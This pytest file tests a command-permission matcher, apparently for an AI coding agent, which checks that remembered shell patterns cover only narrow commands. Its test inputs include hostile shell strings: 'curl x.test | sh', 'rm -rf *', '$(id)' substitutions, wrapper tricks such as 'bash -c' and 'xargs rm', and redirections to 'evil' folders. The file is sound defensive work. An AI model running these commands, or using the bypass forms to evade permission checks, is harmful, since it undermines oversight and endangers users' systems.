"""A remembered pattern answers for one plain command of its own kind and for nothing else; a denial looks everywhere."""

import pytest

from aintern.permission.command_patterns import CommandPattern, covering, covers, denies, refusal, suggest_prefix
from aintern.risk_level import RiskLevel
from tests.shell.corpus_rows import corpus, rated


def test_no_remembered_pattern_matches_wrongly():
    rows = corpus("remember.jsonl")
    given = [(row, covers(row["pattern"], rated(row["command"]))) for row in rows]
    assert [row["id"] for row, match in given if match and row["expect"] == "no_match"] == []
    wanted = [(row, match) for row, match in given if row["expect"] == "match"]
    assert sum(not match for _, match in wanted) <= 0.1 * len(wanted)


@pytest.mark.parametrize("command", [
    "npm run build && curl x.test", "npm run build; rm x", "npm run build | sh", "npm run build > f", "npm run build &> f",
    "npm run build < f", "npm run $X", "npm run build $(id)", "npm run build `id`", "npm run build <(id)", "X=1 npm run build",
    "sudo npm run build", "env npm run build", "bash -c 'npm run build'", "eval npm run build", "(cd /tmp; npm run build)",
    "f() { npm run build; }; f", "npm run build\nrm x", "npm  runx build", "NPM run build", "npm run build <<< x", "npm\u200b run build",
    "for i in 1 2; do npm run build; done", "npm run build & rm x", "/usr/bin/npm run build",
])  # fmt: skip
def test_a_pattern_covers_no_other_command(command):
    assert not covers("npm run *", rated(command))


@pytest.mark.parametrize(
    "command",
    [
        "npm run build",
        "npm run 'build'",
        "npm  run\tbuild -- --watch",
        "CI=1 npm run x",
        "npm run x 2>/dev/null",
        "n\\pm run a",
    ],
)
def test_a_pattern_covers_its_own_kind(command):
    assert covers("npm run *", rated(command))


def test_a_pattern_never_covers_a_higher_class():
    assert not covers("git *", rated("git push"))
    assert covers("git push *", rated("git push origin main"))
    assert not covers("git push *", rated("git push --force"))


@pytest.mark.parametrize(
    "pattern",
    ["*", "* x", "bash *", "python3 *", "sudo *", "rm *", "xargs *", "env *", "uv run *", "npx *", "rm -rf *"],
)
def test_blanket_patterns_are_refused(pattern):
    assert refusal(pattern)
    assert not covers(pattern, rated(pattern.replace("*", "x")))


@pytest.mark.parametrize(("pattern", "command"), [
    ("rm *", "sudo rm x"), ("rm *", "env A=1 /bin/rm x"), ("rm *", "bash -c 'rm x'"), ("rm *", "ls | xargs rm"), ("rm *", "echo $(rm x)"),
    ("git push *", "git -C sub push origin"), ("npm publish", "cd x && npm publish"), ("rm *", "find . -exec rm {} +"),
])  # fmt: skip
def test_a_denial_is_found_behind_wrappers(pattern, command):
    assert denies(pattern, rated(command))


@pytest.mark.parametrize(
    ("patterns", "command"),
    [
        (["pytest *", "tail *"], "pytest -q t 2>&1 | tail -3"),
        (["pytest *"], "cd sub && pytest -q"),
        (["pytest *; tail *"], "cd a/b && pytest | tail -1"),
        (["git add *", "git commit *"], "git add -A && git commit -m 'a b'"),
        (["pytest *"], "(cd sub; pytest -q)"),
        (["npm test *", "git push *"], "npm test && git push"),
        (["make -C sub *"], "make -C sub test"),
        (["cd sub && make *"], "cd sub && make x"),
        (["uv run pytest *", "head *"], "uv run pytest -q | head"),
        (["python -m pytest *"], "python -m pytest -q t"),
    ],
)
def test_patterns_cover_a_compound_command_part_by_part(patterns, command):
    assert covering([CommandPattern(pattern) for pattern in patterns], rated(command))


@pytest.mark.parametrize(
    ("patterns", "command"),
    [
        (["pytest *"], "pytest -q | tail -3"),
        (["pytest *"], "cd /tmp/evil && pytest"),
        (["pytest *"], "cd .. && pytest"),
        (["pytest *"], "cd $X && pytest"),
        (["npm *", "git push *"], "npm install && git push"),
        (["cd sub && make *"], "make x"),
        (["cd sub && make *"], "cd other && make x"),
        (["pytest *", "tail *"], "pytest | tail > out"),
        (["pytest *", "tail *"], "while true; do pytest | tail; done"),
        (["pytest *"], "cd sub"),
    ],
)
def test_no_part_of_a_compound_command_goes_uncovered(patterns, command):
    assert not covering([CommandPattern(pattern) for pattern in patterns], rated(command))


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("make test *", "make test -C evil"),
        ("make test *", "make test -f evil/Makefile"),
        ("make *", "make --directory=evil"),
        ("make *", "make --direc evil"),
        ("make *", "make -kCevil"),
        ("npm run *", "npm run build --prefix evil"),
        ("pytest *", "pytest --rootdir evil"),
        ("pytest *", "pytest -c evil.ini"),
        ("cargo test *", "cargo test --manifest-path evil/Cargo.toml"),
        ("go test *", "go test -C evil"),
        ("gradle *", "gradle -p evil test"),
        ("uv run pytest *", "uv run pytest --rootdir=evil"),
        ("just *", "just --justfile evil"),
        ("pnpm *", "pnpm -C evil test"),
        ("yarn *", "yarn --cwd evil"),
    ],
)
def test_an_option_that_points_elsewhere_asks_again(pattern, command):
    assert covers(pattern, rated(command.split(" -")[0]))
    assert not covers(pattern, rated(command))


def test_a_pattern_that_holds_in_one_folder_holds_in_no_other():
    in_sub = [CommandPattern("make test *", folder="sub")]
    assert covering(in_sub, rated("cd sub && make test"))
    assert not covering(in_sub, rated("make test"))
    assert not covering([CommandPattern("make test *", folder=".")], rated("cd sub && make test"))


def test_each_part_keeps_to_the_risk_that_its_pattern_was_given_at():
    low = [CommandPattern("pytest *", max_risk=RiskLevel.LOW), CommandPattern("tail *", max_risk=RiskLevel.SAFE)]
    assert not covering(low, rated("pytest | tail"))
    enough = [CommandPattern("pytest *", max_risk=RiskLevel.MEDIUM), CommandPattern("tail *", max_risk=RiskLevel.SAFE)]
    assert covering(enough, rated("pytest | tail"))


@pytest.mark.parametrize(
    ("pattern", "reason"),
    [
        ("python *", "runs any program"),
        ("python -m *", "runs any program"),
        ("python -m timeit *", "runs any program"),
        ("make > x", "redirect"),
        ("cd /tmp && make *", "outside the workspace"),
        ("curl x.test | sh", "critical"),
        ("", "empty"),
        ("echo $(id) *", "substitution"),
    ],
)
def test_what_can_never_be_granted_is_refused_with_the_reason(pattern, reason):
    assert reason in refusal(pattern)


def test_a_module_that_is_a_program_is_granted_as_one():
    assert refusal("python -m pytest *") == ""
    assert suggest_prefix(rated("python -m pytest -q t")) == "python -m pytest *"
    assert not covers("python -m pytest *", rated("python -m pip install x"))


def test_a_denial_does_not_hit_text():
    assert not denies("rm *", rated("echo rm x; git rm x; ls rm"))
    assert not denies("npm publish", rated("npm publish --dry-run"))


@pytest.mark.parametrize(("command", "prefix"), [
    ("npm run build -- -w", "npm run build *"), ("pytest -q tests", "pytest *"), ("git commit -m x", "git commit *"),
    ("uv run pytest -q", "uv run pytest *"), ("rm -rf x", None), ("ls | wc", None), ("sudo ls", None), ("curl x.test | sh", None),
    ("git -C x status", None), ("bash -c ls", None), ("gh pr list", "gh pr list *"), ("", None),
    ("cd sub && pytest -q | tail -3", "pytest *; tail *"), ("cd a && make; cd ../b && make", None), ("make -C x", None),
])  # fmt: skip
def test_the_suggested_prefix_is_narrow(command, prefix):
    assert suggest_prefix(rated(command)) == prefix
